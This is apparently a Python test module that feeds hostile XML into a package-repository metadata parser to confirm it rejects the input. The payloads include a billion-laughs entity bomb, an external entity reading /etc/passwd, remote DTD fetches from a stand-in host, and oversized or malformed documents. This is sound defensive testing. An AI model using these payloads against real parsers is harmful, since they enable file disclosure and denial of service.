"""XML as XML should not be: entities, document types, shapes without bound, damage; in each kind of document."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tests.integration.hostile import repository as repo
from tests.integration.hostile.cases import COMPS, FILELISTS, PRIMARY, REPOMD, UPDATEINFO, Case, case, harmless
from tests.integration.hostile.repository import FILL, MIB, PATH, package, plain

LAUGHS = '<!DOCTYPE r [<!ENTITY a0 "ha">{}]>'.format(
    "".join('<!ENTITY a{} "{}">'.format(n, f"&a{n - 1};" * 10) for n in range(1, 10))
)
EXTERNAL = '<!DOCTYPE r [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
_PARAMETER = '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://hostile.test/evil.dtd"> %x;]>'
_SUBSET = '<!DOCTYPE r SYSTEM "http://hostile.test/evil.dtd">'
_NOT = "not XML as it must be"


def types() -> list[Case]:
    """Document types and entities in every kind of document."""
    heads = {
        "billion laughs": LAUGHS,
        "an external entity": EXTERNAL,
        "an external parameter entity": _PARAMETER,
        "an external document type": _SUBSET,
    }
    found = []
    for name, head in heads.items():
        found += [
            case(f"{name} in repomd", _NOT, REPOMD, head=head, swap=("<revision>7", "<revision>&a9;")),
            case(
                f"{name} in primary",
                "document type",
                PRIMARY,
                repo.primary(head=head, swap=("<summary>s", "<summary>&a9;")),
            ),
            case(
                f"{name} in filelists",
                "document type",
                FILELISTS,
                repo.filelists(head=head, more="<file>&a9;</file>"),
                asks=[PATH],
            ),
            case(f"{name} in comps", _NOT, COMPS, repo.comps(head=head, swap=("Core", "&a9;"))),
            case(
                f"{name} in updateinfo",
                "document type",
                UPDATEINFO,
                repo.updateinfo(head=head, swap=("mended", "&a9;")),
            ),
        ]
    return [one for one in found if one.name != "an external document type in comps"] + [
        case(
            "an entity that nothing declares in comps",
            _NOT,
            COMPS,
            repo.comps(head='<!DOCTYPE comps PUBLIC "-//Red Hat//DTD" "comps.dtd">', swap=("Core", "&a9;")),
        ),
        case(
            "an entity that nothing declares in primary",
            "cannot read",
            PRIMARY,
            repo.primary(swap=("<summary>s", "<summary>&a9;")),
        ),
    ]


def repomd() -> list[Case]:
    return [
        case("repomd of another root", "root element is not <repomd>", REPOMD, swap=("repomd", "mdrepo")),
        case("repomd that is a page", "not", REPOMD, head="<html><body><p>Please log in</body></html>"),
        case("repomd cut in the middle", _NOT, REPOMD, swap=("</open-size></data></repomd>", "")),
        case("repomd without its closing tag", _NOT, REPOMD, swap=("</repomd>", "")),
        case("repomd that is not UTF-8", _NOT, REPOMD, swap=("<revision>7", "<revision>\udcff\udcfe")),
        case("repomd with NUL bytes", _NOT, REPOMD, swap=("<revision>7", "<revision>\0")),
        case("repomd with an attribute twice", _NOT, REPOMD, swap=('type="primary"', 'type="primary" type="primary"')),
        case("repomd nested deep", "nested deeper", REPOMD, more=FILL, fill=_deep),
        case("repomd of very many elements", "more than", REPOMD, more=FILL, fill=lambda: "<a/>" * 900_000),
        case(
            "repomd with a revision of 9,999 digits",
            "revision",
            REPOMD,
            swap=("<revision>7", f"<revision>{'7' * 9999}"),
        ),
        case("repomd longer than any", "not taken", REPOMD, more=f"<!--{FILL}-->", fill=_long, status=5),
        case("repomd of an encoding that is none", _NOT, REPOMD, swap=("UTF-8", "evil-8")),
        case("repomd in UTF-7", _NOT, REPOMD, swap=("UTF-8", "UTF-7")),
    ]


def primary() -> list[Case]:
    return [
        case(
            "primary of another root",
            "root element is not <metadata>",
            PRIMARY,
            repo.primary(swap=("metadata", "filelists")),
        ),
        case(
            "primary cut in the middle",
            "cannot read",
            PRIMARY,
            repo.primary(swap=("</format></package>\n</metadata>", "")),
        ),
        case("primary without its closing tag", "cannot read", PRIMARY, repo.primary(swap=("</metadata>", ""))),
        case("primary that is not UTF-8", "cannot read", PRIMARY, repo.primary(swap=("<summary>s", "<summary>\udcff"))),
        case("primary with NUL bytes", "cannot read", PRIMARY, repo.primary(swap=("<summary>s", "<summary>\0"))),
        case(
            "primary with an attribute twice",
            "cannot read",
            PRIMARY,
            repo.primary(swap=('package="1000"', 'package="1000" package="9"')),
        ),
        case(
            "primary with rubbish behind it",
            "cannot read",
            PRIMARY,
            repo.primary(swap=("</metadata>", "</metadata><x/>")),
        ),
        harmless("primary nested deep", repo.primary(package(more=FILL)), fill=_deep),
        case(
            "primary with an attribute of 30 MiB",
            "cannot read",
            PRIMARY,
            repo.primary(package(more=f'<rpm:x y="{FILL}"/>'), pack=plain),
            fill=_long,
        ),
        case(
            "primary of very many attributes",
            "cannot read",
            PRIMARY,
            repo.primary(package(more=f"<rpm:x {FILL}/>"), pack=plain),
            fill=lambda: _many(' {}=""'),
        ),
        case(
            "primary of very many requirements",
            "entries of one package",
            PRIMARY,
            repo.primary(package(), package("other", more=f"<rpm:requires>{FILL}</rpm:requires>")),
            fill=lambda: _many('<rpm:entry name="{}"/>'),
        ),
        case(
            "primary of very many folders",
            "folders in one folder",
            PRIMARY,
            repo.primary(package(more=FILL)),
            fill=lambda: _many("<file>/{}/a</file>"),
        ),
        harmless(
            "primary of very many files",
            repo.primary(package(more=FILL)),
            fill=lambda: _many("<file>/a/{}</file>"),
        ),
        case(
            "primary with a name of 8 MiB",
            "that none can have",
            PRIMARY,
            repo.primary(package(), package(f"n{FILL}")),
            asks=["n*"],
            fill=lambda: "n" * 8 * MIB,
        ),
        case(
            "primary with a name of control characters",
            "that none can have",
            PRIMARY,
            repo.primary(package(), package("n&#x9b;2J")),
            asks=["n*"],
        ),
        case("primary in UTF-16", "UTF-8", PRIMARY, repo.primary(pack=_utf16, open_size="")),
        case("primary in Latin 1", "UTF-8", PRIMARY, repo.primary(swap=("UTF-8", "ISO-8859-1"))),
        case(
            "primary of packages without content",
            "packages in",
            PRIMARY,
            repo.primary(FILL, count=3_000_000),
            fill=lambda: "<package/>" * 3_000_000,
        ),
        case("primary of an encoding that is none", _NOT, PRIMARY, repo.primary(swap=("UTF-8", "evil-8"))),
    ]


def filelists() -> list[Case]:
    return [
        case(
            "filelists of another root",
            "root element is not <filelists>",
            FILELISTS,
            repo.filelists(swap=("filelists", "metadata")),
            asks=[PATH],
        ),
        case(
            "filelists cut in the middle",
            "cannot read",
            FILELISTS,
            repo.filelists(swap=("</package></filelists>", "")),
            asks=[PATH],
        ),
        case(
            "filelists with NUL bytes", "cannot read", FILELISTS, repo.filelists(more="<file>/a\0b</file>"), asks=[PATH]
        ),
        case(
            "filelists of very many folders",
            "folders in one folder",
            FILELISTS,
            repo.filelists(more=FILL),
            asks=[PATH],
            fill=lambda: _many("<file>/{}/a</file>"),
        ),
        harmless(
            "filelists of very many files",
            repo.filelists(more=FILL),
            asks=[PATH],
            fill=lambda: _many("<file>/a/{}</file>"),
        ),
        case(
            "filelists that is not UTF-8",
            "cannot read",
            FILELISTS,
            repo.filelists(more="<file>/a\udcffb</file>"),
            asks=[PATH],
        ),
    ]


def comps() -> list[Case]:
    return [
        case("comps of another root", "root element is not <comps>", COMPS, repo.comps(swap=("comps", "groups"))),
        case("comps cut in the middle", _NOT, COMPS, repo.comps(swap=("</group></comps>", ""))),
        case("comps that is not UTF-8", _NOT, COMPS, repo.comps(swap=("Core", "\udcff"))),
        case("comps with NUL bytes", _NOT, COMPS, repo.comps(swap=("Core", "\0"))),
        case("comps nested deep", "nested deeper", COMPS, repo.comps(more=FILL), fill=_deep),
        case("comps of very many elements", "more than", COMPS, repo.comps(more=FILL), fill=lambda: "<a/>" * 6_000_000),
        case(
            "comps with an attribute of 30 MiB", "longer than", COMPS, repo.comps(more=f'<a b="{FILL}"/>'), fill=_long
        ),
        case(
            "comps of very many attributes",
            "longer than",
            COMPS,
            repo.comps(more=f"<a {FILL}/>"),
            fill=lambda: _many(' {}=""'),
        ),
    ]


def updateinfo() -> list[Case]:
    return [
        _updateinfo("of another root", "root element is not <updates>", swap=("updates", "advisories")),
        _updateinfo("cut in the middle", _NOT, swap=("</collection></pkglist></update></updates>", "")),
        _updateinfo("that is a page", _NOT, head="<html><body><p>Please log in</body></html>"),
        _updateinfo("that is not UTF-8", _NOT, swap=("mended", "\udcff")),
        _updateinfo("with NUL bytes", _NOT, swap=("mended", "\0")),
        _updateinfo("with an entity that nothing declares", _NOT, swap=("mended", "&a9;")),
        _updateinfo("of an encoding that is none", _NOT, swap=("UTF-8", "evil-8")),
        _updateinfo("nested deep", "nested deeper", more=FILL, fill=_deep),
        _updateinfo("with an update nested deep", "nested deeper", text=FILL, fill=_deep),
        _updateinfo("of very many updates", "elements in", more=FILL, fill=lambda: "<update/>" * 3_000_000),
        _updateinfo("with an update of very many elements", "elements in", text=FILL, fill=lambda: "<a/>" * 6_000_000),
        _updateinfo("with an attribute of 30 MiB", "a tag longer than", more=f'<a b="{FILL}"/>', fill=_long),
        _updateinfo("with a comment of 30 MiB", "a tag longer than", more=f"<!--{FILL}-->", fill=_long),
        _updateinfo("with an update of very long text", "one update is longer", text=FILL, fill=_long),
    ]


def _updateinfo(name: str, said: str, *, fill: Callable[[], str] = str, **how: Any) -> Case:
    return case(f"updateinfo {name}", said, UPDATEINFO, repo.updateinfo(**how), fill=fill)


def _deep() -> str:
    return "<a>" * 100_000 + "</a>" * 100_000


def _long() -> str:
    return "y" * 30 * MIB


def _many(text: str) -> str:
    """A million different ones."""
    return "".join(text.format(f"n{number}") for number in range(1_000_000))


def _utf16(data: bytes) -> bytes:
    return data.decode().replace("UTF-8", "UTF-16").encode("utf-16")
